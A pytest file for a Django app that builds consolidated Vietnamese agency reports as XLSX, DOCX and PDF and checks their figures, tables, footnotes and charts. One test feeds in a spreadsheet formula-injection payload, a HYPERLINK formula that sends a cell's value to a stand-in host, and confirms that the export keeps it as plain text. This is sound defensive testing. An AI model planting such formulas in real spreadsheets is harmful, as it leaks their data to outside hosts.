"""The consolidated report: aggregated indicators, narrative by unit, completeness; the XLSX
and the DOCX opened and their tables checked."""

from __future__ import annotations

import io
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook

from caunoi.reporting.consolidated import consolidate, roman
from caunoi.reporting.outputs import write

pytestmark = pytest.mark.django_db


def test_indicators_aggregate_by_their_rule(filled: Any) -> None:
    data = consolidate(filled)
    by_code = {s.indicator.code: s for s in data.indicators}
    assert by_code["so-hop-dong"].aggregate() == 10  # sum
    assert by_code["ty-le"].aggregate() == 60  # average
    assert by_code["co-ke-hoach"].aggregate() == 1  # count of yes
    assert by_code["muc-do"].aggregate() == "Tốt: 2"
    assert by_code["so-hop-dong"].by("kind") == {"ministry": 6, "province": 4}
    assert [a.unit.code for a in by_code["tom-tat"].answers] == ["bo-y-te", "ha-noi"]


def test_the_xlsx_holds_every_figure(filled: Any) -> None:
    book = load_workbook(io.BytesIO(write(filled, "xlsx")))
    first = list(book["Tình hình gửi"].iter_rows(values_only=True))
    assert first[2][:4] == ("Tất cả đơn vị", 2, 2, 100.0)
    measures = {r[0]: r for r in book["Chỉ tiêu"].iter_rows(min_row=2, values_only=True)}
    assert measures["so-hop-dong"][5] == 10 and measures["ty-le"][5] == 60
    texts = list(book["Nội dung"].iter_rows(min_row=2, values_only=True))
    assert ("Bộ Y tế", "Bộ ban hành hướng dẫn.") in [(r[2], r[3]) for r in texts]
    assert all(r[3] != "nháp" for r in texts)


def test_the_docx_is_in_the_administrative_layout(filled: Any) -> None:
    doc = Document(io.BytesIO(write(filled, "docx")))
    header = doc.tables[0].rows[0].cells
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in header[1].text
    assert "Độc lập - Tự do - Hạnh phúc" in header[1].text
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "I. TÌNH HÌNH GỬI BÁO CÁO" in text and "II. TỔNG HỢP CÁC CHỈ TIÊU" in text
    assert "Có 2/2 đơn vị" in text and "100,0%" in text
    assert "Sở KH&CN Hà Nội: Hà Nội tổ chức hội thảo." in text
    measures = doc.tables[2]
    row = next(r for r in measures.rows if r.cells[0].text.startswith("Số hợp đồng"))
    assert row.cells[4].text == "10"


def test_sections_are_numbered_past_ten() -> None:
    assert [roman(n) for n in (1, 4, 9, 10, 14, 40)] == ["I", "IV", "IX", "X", "XIV", "XL"]


def test_text_answers_are_written_as_text_never_as_formulas(campaign: Any, other: Any) -> None:
    from reporting.conftest import send

    campaign.title_vi = "=1+1"
    campaign.save(update_fields=["title_vi"])
    hanoi = campaign.units.get(code="ha-noi").submissions.get(kind="report")
    payload = '=HYPERLINK("http://x/?"&B2,"Xem")'
    send(other, hanoi, {"tom-tat": payload, "so-hop-dong": 4})
    book = load_workbook(io.BytesIO(write(campaign, "xlsx")))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.data_type for c in cells if c.value == "=1+1"] == ["s"]
    answer = [c for c in cells if c.value == payload]
    assert answer and all(c.data_type == "s" for c in answer)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def _table(doc: Any, first_head: list[str]) -> list[list[str]]:
    """The rows (header included) of the first DOCX table whose header starts so."""
    for table in doc.tables:
        rows = [[c.text for c in r.cells] for r in table.rows]
        if rows[0][: len(first_head)] == first_head:
            return rows
    raise AssertionError(f"no table headed {first_head}")


def _row(rows: list[list[str]], label: str) -> list[str]:
    return next(r for r in rows if r[0] == label)


def test_the_docx_breaks_every_indicator_down_by_unit_type_region_and_unit(filled: Any) -> None:
    from caunoi.reporting.consolidated import KIND_VI, UNIT_ANNEX_HEADING

    doc = Document(io.BytesIO(write(filled, "docx")))
    label = "Số hợp đồng chuyển giao công nghệ"
    overall = _table(doc, ["Chỉ tiêu", "Đơn vị tính", "Cách tổng hợp"])
    assert _row(overall, label)[4] == "10"
    by_kind = _table(doc, ["Chỉ tiêu", KIND_VI["ministry"], KIND_VI["province"]])
    assert _row(by_kind, label)[1:] == ["6", "4"]
    assert _row(by_kind, "Tỷ lệ hoàn thành")[1:] == ["70", "50"]  # average per group
    by_region = _table(doc, ["Chỉ tiêu", "Trung ương", "Đồng bằng sông Hồng"])
    assert _row(by_region, label)[1:] == ["6", "4"]
    assert _row(by_region, "Mức độ")[1:] == ["Tốt: 1", "Tốt: 1"]
    texts = [p.text for p in doc.paragraphs]
    assert any(UNIT_ANNEX_HEADING.upper() in t for t in texts)
    by_unit = _table(doc, ["Đơn vị", f"{label} (hợp đồng)"])
    # what was sent, not the ministry's draft correction (1000)
    assert _row(by_unit, "Bộ Y tế")[1] == "6" and _row(by_unit, "Sở KH&CN Hà Nội")[1] == "4"
    assert _row(by_unit, "Bộ Y tế")[3:5] == ["không", "Tốt"]


@pytest.fixture
def tabled(campaign: Any, admin: Any, other: Any, ministry: Any) -> Any:
    """Both units sent their table of tasks (two rows for Hà Nội, one for the ministry)."""
    from reporting.conftest import send

    hanoi = campaign.units.get(code="ha-noi").submissions.get(kind="report")
    send(
        other,
        hanoi,
        {
            "tom-tat": "Hà Nội tổ chức hội thảo.",
            "nhiem-vu": [
                {"ten": "Hội thảo công nghệ", "kinh-phi": 300},
                {"ten": "Đào tạo chuyên gia", "kinh-phi": "200,5"},
            ],
        },
    )
    bo = campaign.units.get(code=ministry.code).submissions.get(kind="report")
    send(
        admin,
        bo,
        {"tom-tat": "Bộ ban hành hướng dẫn.", "nhiem-vu": [{"ten": "Dự án", "kinh-phi": 1000}]},
    )
    return campaign


def test_table_indicators_aggregate_their_number_columns_and_list_their_rows(
    tabled: Any,
) -> None:
    from caunoi.reporting.consolidated import KIND_VI, TABLE_ANNEX_HEADING

    data = consolidate(tabled)
    column = next(s for s in data.measured if s.code == "nhiem-vu.kinh-phi")
    assert column.aggregate() == 1500.5 and column.rule_label == "Tổng"
    assert column.by("kind") == {"ministry": 1000, "province": 500.5}
    assert not any(s.code.startswith("nhiem-vu.ten") for s in data.measured)  # text column

    label = "Nhiệm vụ đã thực hiện: Kinh phí (triệu đồng)"
    doc = Document(io.BytesIO(write(tabled, "docx")))
    assert _row(_table(doc, ["Chỉ tiêu", "Đơn vị tính"]), label)[2:] == ["Tổng", "2", "1 500,5"]
    by_kind = _table(doc, ["Chỉ tiêu", KIND_VI["ministry"], KIND_VI["province"]])
    assert _row(by_kind, label)[1:] == ["1.000", "500,5"]
    by_unit = _table(doc, ["Đơn vị", "Số hợp đồng chuyển giao công nghệ (hợp đồng)"])
    unit_label = next(h for h in by_unit[0] if h.startswith(label))
    assert _row(by_unit, "Sở KH&CN Hà Nội")[by_unit[0].index(unit_label)] == "500,5"
    # the annex: every row with its unit
    assert any(TABLE_ANNEX_HEADING.upper() in p.text for p in doc.paragraphs)
    rows = _table(doc, ["Đơn vị", "Loại văn bản", "Tên nhiệm vụ", "Kinh phí (triệu đồng)"])
    assert rows[1:] == [
        ["Bộ Y tế", "Báo cáo", "Dự án", "1.000"],
        ["Sở KH&CN Hà Nội", "Báo cáo", "Hội thảo công nghệ", "300"],
        ["Sở KH&CN Hà Nội", "Báo cáo", "Đào tạo chuyên gia", "200,5"],
    ]

    book = load_workbook(io.BytesIO(write(tabled, "xlsx")))
    measures = {r[0]: r for r in book["Chỉ tiêu"].iter_rows(min_row=2, values_only=True)}
    assert measures["nhiem-vu.kinh-phi"][3:6] == ("Tổng", 2, 1500.5)
    sheet = list(book["Bảng nhiem-vu"].iter_rows(min_row=3, values_only=True))
    assert ("bo-y-te", "Bộ Y tế", "Báo cáo", "Dự án", 1000) in sheet and len(sheet) == 3

    from pypdf import PdfReader

    pdf = " ".join(
        " ".join(p.extract_text().split())
        for p in PdfReader(io.BytesIO(write(tabled, "pdf"))).pages
    )
    assert "1 500,5" in pdf and "Đào tạo chuyên gia" in pdf


def test_an_average_table_averages_its_rows(tabled: Any) -> None:
    from caunoi.reporting.models import Indicator

    Indicator.objects.filter(version=tabled.template_version, code="nhiem-vu").update(
        aggregation="average"
    )
    column = next(s for s in consolidate(tabled).measured if s.code == "nhiem-vu.kinh-phi")
    assert column.aggregate() == round(1500.5 / 3, 2) and column.rule_label == "Trung bình"
    assert column.by("kind")["province"] == 250.25


def test_the_docx_notes_are_word_footnotes(filled: Any) -> None:
    import zipfile

    from caunoi.reporting.consolidated import COMPLETENESS_NOTE

    content = write(filled, "docx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        footnotes = archive.read("word/footnotes.xml").decode()
        body = archive.read("word/document.xml").decode()
        rels = archive.read("word/_rels/document.xml.rels").decode()
        types = archive.read("[Content_Types].xml").decode()
    assert COMPLETENESS_NOTE in footnotes
    assert 'w:type="separator" w:id="-1"' in footnotes
    assert 'w:id="1"' in footnotes and "<w:footnoteRef/>" in footnotes
    assert '<w:footnoteReference w:id="1"/>' in body
    assert COMPLETENESS_NOTE not in body  # no longer a paragraph at the end
    assert 'relationships/footnotes" Target="footnotes.xml"' in rels
    assert 'PartName="/word/footnotes.xml"' in types and "footnotes+xml" in types
    # the call is in the completeness paragraph
    doc = Document(io.BytesIO(content))
    called = [p for p in doc.paragraphs if "w:footnoteReference" in p._p.xml]
    assert len(called) == 1 and called[0].text.startswith("Có 2/2 đơn vị")


def test_the_report_carries_the_agreements_charts(
    filled: Any, admin: Any, make_agreement: Any, taxonomy: dict[str, Any]
) -> None:
    make_agreement(country="KR").fields.set([taxonomy["fields"]["semis"]])
    make_agreement(country="JP", is_public=False)  # internal: for staff only
    doc = Document(io.BytesIO(write(filled, "docx", reader=admin)))
    captions = [p.text for p in doc.paragraphs if p.text.startswith("Biểu đồ ")]
    assert captions[3].startswith("Biểu đồ 4. Hiệp định, thỏa thuận theo quốc gia đối tác")
    assert captions[4].startswith("Biểu đồ 5. Hiệp định, thỏa thuận theo lĩnh vực")
    assert len(doc.inline_shapes) == 5
    data = consolidate(filled, reader=admin)
    assert dict(data.agreements[0].rows) == {"Hàn Quốc": [1.0], "Nhật Bản": [1.0]}
    # the public (no reader) counts only the public agreement
    assert dict(consolidate(filled).agreements[0].rows) == {"Hàn Quốc": [1.0]}
